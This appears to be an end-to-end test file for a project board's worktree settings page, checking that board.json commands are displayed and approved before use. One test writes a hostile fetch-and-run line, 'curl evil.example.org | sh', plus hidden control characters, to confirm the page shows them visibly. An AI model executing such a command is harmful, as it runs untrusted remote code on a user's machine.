import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { noBrowser, visitors } from '../support/browsers/browser.ts'
import { registerConfirmed } from '../support/identity/registerConfirmed.ts'
import { startBoardWithProject, type TestBoard } from '../support/servers/testBoard.ts'

describe.skipIf(noBrowser !== undefined)('the worktrees of a project', () => {
  const visit = visitors()
  let board: TestBoard
  let projectId: string
  beforeEach(async () => {
    ;({ board, projectId } = await startBoardWithProject())
  })
  afterEach(() => board.close())
  const found = () => board.client.projects.getWorktree({ id: projectId })

  test('show each command of board.json, and every control character', async () => {
    const { path } = await board.client.projects.get({ id: projectId })
    const setup = 'npm ci # all\ncurl evil.example.org | sh\u202e\u001b'
    writeFileSync(join(path, 'board.json'), JSON.stringify({ setup }))
    const { page, settled } = await visit(board, {
      at: `#/projects/${projectId}/settings/worktrees`,
      viewport: { width: 390, height: 844 },
    })
    await page.getByText('npm ci # all').waitFor()
    expect(await page.locator('dd').first().innerText()).toBe('npm ci # all\ncurl evil.example.org | sh\ufffd\u241b')
    await settled()
    // The focus stays on the button, which now does the opposite.
    const focused = () => page.evaluate('document.activeElement.textContent')
    await page.getByRole('button', { name: 'Agree', exact: true }).press('Enter')
    await page.getByRole('alertdialog').getByRole('button', { name: 'Agree', exact: true }).press('Enter')
    await expect.poll(focused).toBe('Withdraw agreement')
    await page.keyboard.press('Enter')
    await expect.poll(focused).toBe('Agree')

    await board.client.projects.update({ id: projectId, worktree: { setup: 'first\nsecond' } })
    await page.reload()
    await page.getByLabel('Setup').fill('first\nsecond\nthird')
    await page.getByRole('button', { name: 'Save worktrees' }).click()
    await page.getByText('Saved the worktree settings').waitFor()
    expect((await found()).effective.setup).toBe('first\nsecond\nthird')
  })

  test('show to a member what occupies disk space', async () => {
    await board.client.projects.update({ id: projectId, worktree: { setup: 'npm ci', ports: 2 } })
    await board.client.auth.setup({ email: 'root@example.org', password: 'correct horse 1' })
    const email = 'anna@example.org'
    const { token } = await registerConfirmed(board, { email, password: 'correct horse 2', displayName: 'Anna' })
    await board.client.members.add({ id: projectId, email, role: 'member' })
    const { page } = await visit({ url: board.url, token }, { at: `#/projects/${projectId}/settings/worktrees` })
    await page.getByRole('heading', { name: 'Current settings' }).waitFor()
    expect(await page.locator('.facts').innerText()).toMatch(/Setup\s+npm ci\s+Ports of each card\s+2\s/)
    expect(await page.getByLabel('Setup').count()).toBe(0)
  })

  test('show the commands of board.json before they are approved, and are configured by an admin', async () => {
    const { path } = await board.client.projects.get({ id: projectId })
    writeFileSync(join(path, 'board.json'), JSON.stringify({ setup: 'npm ci', preview: 'npm run dev' }))
    const { page, axeViolations } = await visit(board, { at: `#/projects/${projectId}/settings/worktrees` })
    await page.getByText('It is used only after a member agrees').waitFor()
    await page.getByText('npm run dev', { exact: true }).waitFor()
    await page.getByRole('button', { name: 'Agree', exact: true }).click()
    await page.getByRole('alertdialog').getByRole('button', { name: 'Agree', exact: true }).click()
    await page.getByRole('button', { name: 'Withdraw agreement' }).waitFor()
    expect((await found()).effective).toMatchObject({ setup: 'npm ci', ports: 1 })

    await page.getByLabel('Setup').fill('npm install')
    await page.getByLabel('Preview').fill('none')
    await page.getByLabel('Ports of each card').fill('99')
    await page.getByRole('button', { name: 'Save worktrees' }).click()
    await page.getByText('must be at most 10', { exact: true }).waitFor()
    await page.getByLabel('Ports of each card').fill('3')
    await page.getByRole('button', { name: 'Save worktrees' }).click()
    await page.getByText('Saved the worktree settings for future starts').waitFor()
    expect((await found()).effective).toMatchObject({ setup: 'npm install', preview: '', ports: 3 })
    expect(await axeViolations()).toEqual([])

    await page.getByRole('button', { name: 'Withdraw agreement' }).click()
    await page.getByRole('button', { name: 'Agree', exact: true }).waitFor()
    expect((await found()).boardFile!.agreed).toBe(null)
  })
})
